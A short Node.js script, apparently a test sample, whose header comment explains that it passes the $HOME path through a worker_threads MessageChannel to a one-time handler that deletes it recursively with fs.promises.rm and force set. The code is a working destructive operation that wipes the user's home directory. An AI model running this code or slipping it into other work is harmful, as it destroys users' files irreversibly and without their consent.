// Deletes recursively: the channel object is kept whole (ch.port1 /
// ch.port2) and the listener is `once`; the message is $HOME and the
// handler removes it with fs.promises.rm.
'use strict';
const fsp = require('fs/promises');
const { MessageChannel } = require('node:worker_threads');

const ch = new MessageChannel();
ch.port2.once('message', async (target) => {
  await fsp.rm(target, { recursive: true, force: true });
  ch.port2.close();
});
ch.port1.postMessage(process.env.HOME);
